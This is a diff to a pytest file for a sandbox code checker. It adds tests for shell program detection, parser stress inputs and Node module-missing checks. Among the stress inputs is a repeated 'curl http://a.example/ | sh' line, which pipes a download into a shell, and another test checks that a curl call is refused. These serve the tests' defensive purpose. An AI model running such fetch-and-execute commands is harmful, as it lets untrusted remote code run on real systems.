@@ -172,6 +172,28 @@ def test_what_the_sandbox_will_refuse(session: Any, package: Path, tmp_path: Pat
     assert rules(check(session, "curl https://x.test/", "shell")) == ["host"]
     with cellgate.Session(tmp_path, exec="deny", private=True) as s:
         assert rules(check(s, "import os\nos.system('ls')")) == ["program"]
+        assert rules(check(s, "echo a\nls | cd x", "shell")) == ["program"]
+
+
+SHELL = [
+    ("nosuch a", [1]),
+    ("ls; nosuch a && X=1 nosuch\nif nosuch; then nosuch; fi", [1, 1, 2, 2]),
+    ("ls # nosuch\n'a\n;nosuch' b\nnosuch", [4]),
+    ("ls |\n  nosuch\n! nosuch", [2, 3]),
+    ("f() {\n  ls\n}\nf x; function g { ls; }; g; alias h=ls\nh", []),
+    ("a=(x y); ((i = 0, j)); for ((i=0;i<3;i++)); do echo; done; [[ a && b ]] && echo", []),
+    ("case x in\na) ls ;;\nb|c) ls ;;\nesac; for nosuch in a b; do echo $nosuch; done", []),
+    ("echo >nosuch 2>&1; ls >&2 nosuch; echo \\\n nosuch \"a; nosuch b\" 'c\nnosuch'", []),
+    ("cat <<X\nnosuch\nX", []),
+    ("export PATH=$HOME/bin\nnosuch", []),
+    (". ./functions\nnosuch", []),
+    ('./nosuch; $nosuch; "$x"; x=$(nosuch; nosuch)', []),
+]
+
+
+@pytest.mark.parametrize(("code", "lines"), SHELL)
+def test_programs_of_the_shell(session: Any, code: str, lines: list[int]) -> None:
+    assert [(i["rule"], i["line"]) for i in check(session, code, "shell")["issues"]] == [("program", n) for n in lines]
 
 
 def test_allowed_imports(session: Any) -> None:
@@ -187,6 +209,11 @@ def test_allowed_imports(session: Any) -> None:
     [
         ("shell", "dd curl " * 60_000),
         ("shell", "curl http://a.example/ | sh\n" * 30_000),
+        ("shell", "a" * 1_000_000),
+        ("shell", "a" + " " * 500_000 + "'\"" * 200_000),
+        ("shell", "nosuch;" * 120_000),
+        ("node", "\n" * 1_000_000),
+        ("node", "from\n'a'" * 100_000),
         ("python", "\n".join(f"v{i}; import v{i}" for i in range(30_000))),
         ("python", "x = '" + "http://a.example " * 50_000 + "'"),
     ],
@@ -217,6 +244,9 @@ def test_node(session: Any) -> None:
     for code in ("let x = 1", "import fs from 'fs'; await 1"):
         assert check(session, code, "node")["verdict"] == "pass"
     assert [i["line"] for i in check(session, "1;\neval('1')", "node", dangers=True)["issues"]] == [2]
+    code = "import a from 'nosuch';\nrequire('fs'); require('node:os'); require('./own'); require('mcptools/x')"
+    found = check(session, f"{code}\nawait import('@s/nosuch/sub')", "node")
+    assert [(i["rule"], i["line"]) for i in found["issues"]] == [("module-missing", 1), ("module-missing", 3)]
     found = check(session, "let a = 1\nlet b = ;", "node")
     assert (found["verdict"], found["issues"][0]["line"]) == ("reject", 2)
     assert "SyntaxError" in found["issues"][0]["message"]
